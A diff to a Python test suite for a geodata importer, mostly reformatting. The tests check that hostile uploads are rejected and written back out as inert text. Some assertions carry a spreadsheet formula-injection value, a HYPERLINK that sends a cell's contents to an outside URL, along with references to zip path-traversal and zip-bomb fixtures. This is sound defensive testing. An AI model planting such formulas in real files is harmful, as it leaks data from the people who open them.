@@ -17,24 +17,24 @@ import pandas as pd
 import pytest
 import shapely
 from geopandas.testing import assert_geodataframe_equal
-from tests.intake_corpus import make_corpus as corpus
 from shapely.geometry import Point
 
-from geo.data.cells import spreadsheet_text
 from geo.cli import main
 from geo.config import BOUNDARIES_PATH, load_config
+from geo.data.cells import spreadsheet_text
 from geo.data.crs import bd09_to_wgs84, gcj02_to_wgs84
+from geo.data.io import read_communities, read_districts, read_raw_layer
+from geo.data.schema import COMMUNITY_COLUMNS, FITNESS_PATH_COLUMNS
 from geo.intake.importer import (
     approximate_footprints,
     import_file,
     write_accepted,
     write_rejects,
 )
-from geo.data.io import read_communities, read_districts, read_raw_layer
-from geo.data.schema import COMMUNITY_COLUMNS, FITNESS_PATH_COLUMNS
 from geo.intake.validate import REASONS
 from tests import hostile
 from tests.helpers import csv_rows
+from tests.intake_corpus import make_corpus as corpus
 
 CORPUS = corpus.HERE
 EXPECTED = pd.read_csv(CORPUS / "expected.csv", dtype=str, keep_default_na=False)
@@ -79,7 +79,10 @@ def test_corpus_file(expected, config, districts):
     assert summary["input_rows"] == int(expected["input_rows"])
     assert summary["accepted"] + summary["rejected"] == summary["input_rows"]
     assert (summary["accepted"], summary["rejected"], summary["repaired"]) == (
-        int(expected["accepted"]), int(expected["rejected"]), int(expected["repaired"]))
+        int(expected["accepted"]),
+        int(expected["rejected"]),
+        int(expected["repaired"]),
+    )
     rows = ";".join(str(row) for row in result.rejects.iloc[:, 0])
     assert rows == expected["rejected_rows"]
     if expected["code"] in ("warning", "repaired"):
@@ -99,16 +102,33 @@ def test_corpus_covers_every_rule_format_and_safety_case():
     suffixes = {Path(name).suffix for name in EXPECTED["file"]}
     assert {".gpkg", ".geojson", ".zip", ".kml", ".csv", ".xlsx"} <= suffixes
     errors = " ".join(EXPECTED.loc[EXPECTED["code"] == "error", "message"])
-    for safety in ("leaves the archive's folder", "times its compressed size", "above the upload limit",
-                   "above the limit of", "old-style Excel", "not in a supported format"):
+    for safety in (
+        "leaves the archive's folder",
+        "times its compressed size",
+        "above the upload limit",
+        "above the limit of",
+        "old-style Excel",
+        "not in a supported format",
+    ):
         assert safety in errors
     assert "formula" in codes and "csv_really_zip.csv" in set(EXPECTED["file"])
 
 
 # --------------------------------------------------------------------------- good files of every format
 
-GOOD_FORMATS = ["gpkg", "geojson", "shp_utf8", "shp_gbk_cpg", "shp_gbk_no_cpg", "kml",
-                "csv_utf8", "csv_bom", "csv_gbk", "xlsx_zh", "xlsx_en"]
+GOOD_FORMATS = [
+    "gpkg",
+    "geojson",
+    "shp_utf8",
+    "shp_gbk_cpg",
+    "shp_gbk_no_cpg",
+    "kml",
+    "csv_utf8",
+    "csv_bom",
+    "csv_gbk",
+    "xlsx_zh",
+    "xlsx_en",
+]
 
 
 def good_rows(layer):
@@ -128,8 +148,9 @@ def write_good(tmp_path: Path, layer: str, file_format: str, rows=None, geometry
         return corpus.write_geodata(tmp_path / "good.kml", data, "KML")
     if file_format.startswith("shp"):
         encoding = None if file_format == "shp_utf8" else "GBK"
-        return corpus.write_shapefile_zip(tmp_path / "good.zip", data, encoding=encoding,
-                                          cpg=file_format != "shp_gbk_no_cpg", folder_in_zip="调查/")
+        return corpus.write_shapefile_zip(
+            tmp_path / "good.zip", data, encoding=encoding, cpg=file_format != "shp_gbk_no_cpg", folder_in_zip="调查/"
+        )
     if file_format.startswith("csv"):
         encoding = {"csv_utf8": "utf-8", "csv_bom": "utf-8-sig", "csv_gbk": "gbk"}[file_format]
         return corpus.write_csv(tmp_path / "good.csv", rows, layer, encoding=encoding)
@@ -227,8 +248,17 @@ def test_filled_survey_template_is_imported(tmp_path, lang, config, districts):
     headers = survey_headers(lang)
     yes = "是" if lang == "zh" else "Yes"
     for values in (
-        {"name": "阳光花园", "district_name": "城中区", "longitude": 109.458, "latitude": 24.3704, "crs": "GCJ-02",
-         "land_area_m2": 20000, "population": 1200, "public_space_used_for_parking": yes, "remarks": "东侧空地"},
+        {
+            "name": "阳光花园",
+            "district_name": "城中区",
+            "longitude": 109.458,
+            "latitude": 24.3704,
+            "crs": "GCJ-02",
+            "land_area_m2": 20000,
+            "population": 1200,
+            "public_space_used_for_parking": yes,
+            "remarks": "东侧空地",
+        },
         {"community_id": "450203-0001", "name": "河西小区", "district_name": "鱼峰区", "population": 2500},
         {"name": "雅儒小区", "district_name": "柳北", "longitude": 109.4006, "latitude": 24.4524, "crs": "WGS84"},
     ):
@@ -279,8 +309,9 @@ def test_per_row_coordinate_system_column(tmp_path, config, districts):
     rows = corpus.records("fitness_paths")
     for row, system in zip(rows, ("WGS84", "高德", "bd-09")):
         row["crs"] = system
-    result = import_file(corpus.write_csv(tmp_path / "p.csv", rows, "fitness_paths"), "fitness_paths", "gcj02",
-                         config, districts)
+    result = import_file(
+        corpus.write_csv(tmp_path / "p.csv", rows, "fitness_paths"), "fitness_paths", "gcj02", config, districts
+    )
     x, y = result.accepted.geometry.x.to_numpy(), result.accepted.geometry.y.to_numpy()
     assert (x[0], y[0]) == (rows[0]["longitude"], rows[0]["latitude"])
     assert (x[1], y[1]) == gcj02_to_wgs84(rows[1]["longitude"], rows[1]["latitude"])
@@ -341,7 +372,9 @@ def test_unknown_declared_crs_fails_before_reading(config, districts):
 
 def test_point_community_gets_a_square_of_its_land_area(tmp_path, config, districts):
     rows = corpus.records("communities")
-    result = import_file(corpus.write_csv(tmp_path / "c.csv", rows, "communities"), "communities", None, config, districts)
+    result = import_file(
+        corpus.write_csv(tmp_path / "c.csv", rows, "communities"), "communities", None, config, districts
+    )
     utm = result.accepted.to_crs("EPSG:32649")
     np.testing.assert_allclose(utm.area, [20000.0, config.default_footprint_m2, 12000.0], rtol=1e-9)
     centres = gpd.GeoSeries([Point(r["longitude"], r["latitude"]) for r in rows], crs="EPSG:4326").to_crs("EPSG:32649")
@@ -370,8 +403,9 @@ def test_outputs_rejects_csv_and_accepted_gpkg(tmp_path, config, districts):
 
 
 # Hostile headers that stay distinct once the reader strips surrounding whitespace from headers.
-HOSTILE_HEADERS = [text for i, text in enumerate(hostile.ALL)
-                   if text.strip() not in {other.strip() for other in hostile.ALL[:i]}]
+HOSTILE_HEADERS = [
+    text for i, text in enumerate(hostile.ALL) if text.strip() not in {other.strip() for other in hostile.ALL[:i]}
+]
 
 
 def hostile_survey(path: Path) -> Path:
@@ -392,7 +426,7 @@ def hostile_survey(path: Path) -> Path:
 def assert_rejects_csv_is_text(data: bytes, result) -> None:
     rows = csv_rows(data)  # fails on a formula, a missing BOM or an unquoted text cell
     assert rows[0] == [spreadsheet_text(str(c)) for c in result.rejects.columns]
-    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")" in rows[0]  # the user's headers too
+    assert "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + '?d="&C2,"详情")' in rows[0]  # the user's headers too
     assert "'@SUM(9)" in rows[0] and "'=1+2" in rows[0] and "小区名称" in rows[0]
     assert len(rows) == 1 + len(hostile.ALL)
     names = [row[rows[0].index("名称")] for row in rows[1:]]
@@ -410,14 +444,29 @@ def test_rejects_of_hostile_text_are_text_in_the_app_and_the_cli(tmp_path, confi
     survey = hostile_survey(tmp_path / "survey.csv")
     result = import_file(survey, "communities", None, config, districts)
     assert result.rejected == len(hostile.ALL) and len(result.accepted) == 0
-    assert {"\x01=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")", "@SUM(9)", "=1+2"} <= set(result.rejects.columns)
+    assert {'\x01=HYPERLINK("' + hostile.OUTSIDE_URL + '?d="&C2,"详情")', "@SUM(9)", "=1+2"} <= set(
+        result.rejects.columns
+    )
 
     app_bytes = result.rejects_csv()  # what the app's download button serves
     assert_rejects_csv_is_text(app_bytes, result)
 
     cli_rejects = tmp_path / "rejects.csv"
-    assert main(["import", str(survey), "--layer", "communities", "--out", str(tmp_path / "ok.gpkg"),
-                 "--rejects", str(cli_rejects)]) == 0
+    assert (
+        main(
+            [
+                "import",
+                str(survey),
+                "--layer",
+                "communities",
+                "--out",
+                str(tmp_path / "ok.gpkg"),
+                "--rejects",
+                str(cli_rejects),
+            ]
+        )
+        == 0
+    )
     capsys.readouterr()
     assert cli_rejects.read_bytes() == app_bytes == write_rejects(result, tmp_path / "again.csv").read_bytes()
 
@@ -432,8 +481,21 @@ def test_row_numbers_of_an_xlsx_are_its_sheet_rows(config, districts):
 
 def test_cli_import_json(tmp_path, capsys):
     out, rejects = tmp_path / "ok.gpkg", tmp_path / "rejects.csv"
-    code = main(["import", str(CORPUS / "csv_swapped.csv"), "--layer", "communities", "--crs", "wgs84",
-                 "--out", str(out), "--rejects", str(rejects), "--json"])
+    code = main(
+        [
+            "import",
+            str(CORPUS / "csv_swapped.csv"),
+            "--layer",
+            "communities",
+            "--crs",
+            "wgs84",
+            "--out",
+            str(out),
+            "--rejects",
+            str(rejects),
+            "--json",
+        ]
+    )
     assert code == 0
     summary = json.loads(capsys.readouterr().out)
     assert set(summary) == {"input_rows", "accepted", "rejected", "repaired", "warnings"}
@@ -442,13 +504,27 @@ def test_cli_import_json(tmp_path, capsys):
     assert out.exists() and rejects.exists()
 
 
-@pytest.mark.parametrize("name", ["binary.geojson", "zip_path_traversal.zip", "zip_bomb.zip", "legacy.xls",
-                                  "kml_truncated.kml"])
+@pytest.mark.parametrize(
+    "name", ["binary.geojson", "zip_path_traversal.zip", "zip_bomb.zip", "legacy.xls", "kml_truncated.kml"]
+)
 def test_cli_unreadable_file_is_one_line_exit_2(tmp_path, name):
     run = subprocess.run(
-        [sys.executable, "-m", "geo", "import", str(CORPUS / name), "--layer", "communities",
-         "--out", str(tmp_path / "o.gpkg"), "--rejects", str(tmp_path / "r.csv")],
-        cwd=REPO, capture_output=True, text=True,
+        [
+            sys.executable,
+            "-m",
+            "geo",
+            "import",
+            str(CORPUS / name),
+            "--layer",
+            "communities",
+            "--out",
+            str(tmp_path / "o.gpkg"),
+            "--rejects",
+            str(tmp_path / "r.csv"),
+        ],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
     )
     assert run.returncode == 2
     assert run.stdout == ""
